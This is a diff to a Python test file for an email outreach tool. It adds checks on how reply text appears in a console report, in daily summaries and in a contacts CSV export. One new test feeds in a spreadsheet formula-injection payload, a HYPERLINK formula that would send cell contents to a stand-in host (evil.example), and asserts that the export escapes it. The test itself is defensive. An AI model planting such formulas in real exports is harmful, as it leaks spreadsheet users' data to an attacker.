@@ -17,12 +17,13 @@ from leadgen.db.models import Company, MessageStatus, OutreachMessage
 from leadgen.mailbox.effects import apply_classification
 from leadgen.mailbox.kinds import Classification, MailKind
 from leadgen.mailbox.report import loop_report
-from leadgen.reports import export_contacts, funnel
+from leadgen.reports import daily_summaries, export_contacts, funnel
 from leadgen.settings import Settings
 from tests.outreach.factories import add_company
 
 NOW = datetime(2026, 12, 7, 11, 0, tzinfo=UTC)
-REPLY_TEXT = "Здравствуйте, Анна!\nДа, интересно. Давайте созвонимся в четверг после 15:00.\n\nОльга"
+REPLY_TEXT = "Здравствуйте, Анна!\nДа, интересно [/]. Давайте созвонимся в четверг после 15:00.\n\nОльга"
+# "[/]" would be Rich markup: a stranger's text must be printed as is
 
 
 def _sent(session: Session, company: Company, to: str, n: int) -> OutreachMessage:
@@ -89,10 +90,12 @@ def test_loop_report_counts_every_kind(engine: Engine, loop_db: Settings) -> Non
     assert (latest.sender, latest.domain) == ("olga@warm.ru", "warm.ru")
     assert (
         latest.first_lines
-        == "Здравствуйте, Анна! Да, интересно. Давайте созвонимся в четверг после 15:00. Ольга"
+        == "Здравствуйте, Анна! Да, интересно [/]. Давайте созвонимся в четверг после 15:00. Ольга"
     )
     assert latest.date == (NOW - timedelta(hours=1)).isoformat()
-    # bounced and replied rows still count as sent in the funnel
+    # bounced and replied rows still count as sent in the funnel and the daily summaries
+    with Session(engine) as s:
+        assert sum(d.sent for d in daily_summaries(s)) == 4
     assert (total.sent, total.bounced, total.replied) == (4, 2, 1)
 
 
@@ -119,5 +122,25 @@ def test_contacts_export_carries_the_reply(engine: Engine, loop_db: Settings, tm
         warm = rows[address]
         assert warm["replied_at"] == (NOW - timedelta(hours=1)).isoformat()
         assert warm["reply_from"] == "olga@warm.ru"
-        assert warm["reply_excerpt"].startswith("Здравствуйте, Анна! Да, интересно.")
+        assert warm["reply_excerpt"].startswith("Здравствуйте, Анна! Да, интересно [/].")
     assert (rows["box@full.ru"]["replied_at"], rows["box@full.ru"]["reply_from"]) == ("", "")
+
+
+def test_a_reply_cannot_put_a_formula_into_the_export(
+    engine: Engine, settings: Settings, tmp_path: Path
+) -> None:
+    with Session(engine) as s, s.begin():
+        company = add_company(s, "evil.ru", emails=("info@evil.ru",))
+        row = _sent(s, company, "info@evil.ru", 1)
+        c = Classification(
+            MailKind.REPLY, "in-reply-to", message_id=row.message_id, sender="info@evil.ru",
+            excerpt='=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
+        )  # fmt: skip
+        apply_classification(
+            s, c, mailbox="gmail", folder="INBOX", uidvalidity=5, uid=1, settings=settings, now=NOW
+        )
+    with Session(engine) as s:
+        export_contacts(s, tmp_path / "contacts.csv")
+    with (tmp_path / "contacts.csv").open(encoding="utf-8", newline="") as fh:
+        [evil] = list(csv.DictReader(fh))
+    assert evil["reply_excerpt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
